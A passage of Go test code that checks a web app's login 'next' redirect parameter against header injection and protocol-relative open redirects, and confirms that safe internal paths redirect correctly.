			if len(res.header.Values("Location")) > 1 || res.header.Get("A") != "" {
				t.Errorf("%s with next=%q adds headers: %v", what, next, res.header)
			}
			if res.status == 200 {
				for _, link := range links(t, res.body) {
					if strings.HasPrefix(link, "//") || strings.HasPrefix(link, "/\\") {
						t.Errorf("%s with next=%q links to %q", what, next, link)
					}
				}
			}
		}
	}
	for _, next := range []string{"/account", "/articles/a?sort=newest#c5", "/comments/7?reply=1#composer", "/moderation?state=spam&at=3"} {
		if at := signedIn.get("/login?next=" + url.QueryEscape(next)).is(303).header.Get("Location"); at != next {
			t.Errorf("next=%q leads to %q", next, at)
		}
	}
	noFailures(t, s.log.String())
}
